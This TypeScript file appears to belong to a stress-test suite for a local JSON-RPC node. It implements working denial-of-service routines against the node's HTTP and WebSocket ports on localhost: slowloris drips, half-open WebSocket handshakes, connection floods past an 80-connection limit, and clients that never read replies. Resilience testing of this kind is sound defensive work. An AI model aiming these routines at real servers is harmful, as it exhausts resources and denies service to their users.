import type { Socket } from 'node:net'
import type { Attack } from './attack.ts'
import { exchange, open, paced, pause } from './sockets.ts'
import { frame, handshake } from './websocket-bytes.ts'

/** Clients that make the node wait: idle connections, partial requests, unread answers. */

const DRIP_MS = 100
const CALL = '{"jsonrpc":"2.0","id":1,"method":"net_version","params":[]}'
const REQUEST = `POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: ${CALL.length}\r\n\r\n${CALL}`

/** Sends one byte after the other to every socket, then closes them. */
async function drip(sockets: readonly Socket[], text: string, seconds: number): Promise<number> {
  const steps = Math.floor((seconds * 1_000) / DRIP_MS)
  for (let step = 0; step < steps; step++) {
    for (const socket of sockets) if (!socket.destroyed) socket.write(text[step % text.length]!)
    await pause(DRIP_MS)
  }
  const left = sockets.filter((socket) => !socket.destroyed).length
  for (const socket of sockets) socket.destroy()
  return left
}

async function openMany(count: number, port: number, begin = ''): Promise<Socket[]> {
  const sockets: Socket[] = []
  await paced(count, { atOnce: 16, perSecond: 1_000 }, async () => {
    const socket = open(port)
    sockets.push(socket)
    await new Promise<void>((resolve) => {
      socket.once('connect', () => resolve())
      socket.once('close', () => resolve())
    })
    if (begin !== '' && !socket.destroyed) socket.write(begin)
    socket.resume()
  })
  return sockets
}

/** Some clients never finish their headers, the others never finish their body. */
export const slowloris: Attack = async ({ http }, { seconds }) => {
  const headers = await openMany(600, http, 'POST / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ')
  const bodies = await openMany(
    60,
    http,
    'POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n[',
  )
  const [inHeaders, inBody] = await Promise.all([drip(headers, 'abc', seconds), drip(bodies, ' ', seconds)])
  return `600 slow in their headers (${inHeaders} left at the end), 60 in their body (${inBody} left)`
}

export const halfOpenUpgrades: Attack = async ({ http, websocket }, { seconds }) => {
  const whole = handshake(websocket)
  const cut = await openMany(300, websocket, whole.slice(0, -2))
  const silent = await openMany(50, websocket, whole)
  const inFrame = await openMany(20, websocket, `${whole}\x81\xfe`)
  const wrongPort = await openMany(40, http, whole)
  const left = await Promise.all(
    [cut, silent, inFrame, wrongPort].map((sockets) => drip(sockets, '\n', seconds)),
  )
  return `300 cut in the handshake, 50 silent after it, 20 cut in a frame, 40 on the HTTP port (left: ${left.join(', ')})`
}

/** Exceeds the limit of 80 connections: most are closed, and earlier clients are still served. */
export const connectionFlood: Attack = async ({ http, websocket }, { count }) => {
  let answered = 0
  let sockets: Socket[] = []
  await paced(count, { atOnce: 400, perSecond: 1_500 }, async (index) => {
    const socket = open(index % 2 ? websocket : http)
    sockets.push(socket)
    socket.write(index % 2 ? handshake(websocket) : REQUEST)
    socket.once('data', () => {
      answered += 1
    })
    if (sockets.length < 400) return
    // All stay open until there are 400, five times the limit; then the next wave starts.
    await pause(200)
    for (const each of sockets) each.destroy()
    sockets = []
  })
  for (const each of sockets) each.destroy()
  return `${count} connections in waves of 400, ${answered} answered`
}

/** Sends requests continuously and reads nothing. */
export const unreadAnswers: Attack = async ({ http, websocket }, { seconds }) => {
  const long = JSON.stringify({ jsonrpc: '2.0', id: 'x'.repeat(30_000), method: 'net_version', params: [] })
  const request = `POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: ${long.length}\r\n\r\n${long}`
  const bytes = frame(long)
  const greedy = [
    ...Array.from({ length: 10 }, () => ({ socket: open(http), bytes: Buffer.from(request) })),
    ...Array.from({ length: 10 }, () => ({ socket: open(websocket), bytes })),
  ]
  for (const [index, { socket }] of greedy.entries()) {
    if (index >= 10) socket.write(handshake(websocket))
    socket.pause()
  }
  const endMs = performance.now() + seconds * 1_000
  let sent = 0
  while (performance.now() < endMs) {
    for (const each of greedy) {
      if (each.socket.destroyed || each.socket.writableLength > 1_000_000) continue
      each.socket.write(each.bytes)
      sent += 1
    }
    await pause(5)
  }
  const left = greedy.filter(({ socket }) => !socket.destroyed).length
  for (const { socket } of greedy) socket.destroy()
  await exchange(http, REQUEST, 1_000)
  return `20 clients that never read sent ${sent} calls of 30 kB (${left} left at the end)`
}
